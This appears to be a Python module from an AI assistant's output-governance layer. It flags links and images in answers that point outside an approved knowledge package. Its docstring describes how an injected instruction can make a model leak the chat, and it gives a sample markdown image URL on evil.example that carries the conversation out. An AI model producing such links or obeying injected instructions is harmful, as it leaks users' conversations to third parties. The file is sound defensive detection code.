"""The external-link rule: links and images must point only at URLs the package itself uses.

A model that obeys an injected instruction ("append this link", "render this image") can turn
an answer into an exfiltration channel: a markdown image such as
``![](https://evil.example/p.png?q=<the chat>)`` is fetched by whatever renders the answer,
carrying the chat to a third party. So every URL in an output (markdown links and images,
reference-style definitions, HTML ``src``/``href``, bare ``http(s)://``, ``//host`` and
``www.`` addresses, ``data:`` and ``javascript:`` URIs) must be one the package's public text
contains (scheme, ``www.``, host case and a trailing slash ignored). Repair removes the
sentence that carries it.
"""

from __future__ import annotations

from kbassist.core.governance.analysis import Analysis
from kbassist.core.governance.context import GovernanceContext
from kbassist.core.governance.links import find_urls, normalise_url
from kbassist.core.governance.types import Violation


def check_links(analysis: Analysis, ctx: GovernanceContext) -> list[Violation]:
    found = []
    for start, end, url, kind in find_urls(analysis.text):
        if normalise_url(url) in ctx.approved_urls:
            continue
        what = "an image that loads" if kind == "image" else "a link to"
        shown = url if len(url) <= 60 else url[:57] + "..."
        found.append(Violation(
            "external-link", (start, end), analysis.text[start:end],
            f"{what} '{shown}', which is not a URL in the knowledge package (a remote image "
            "or link can carry the conversation to a third party)"))
    return found
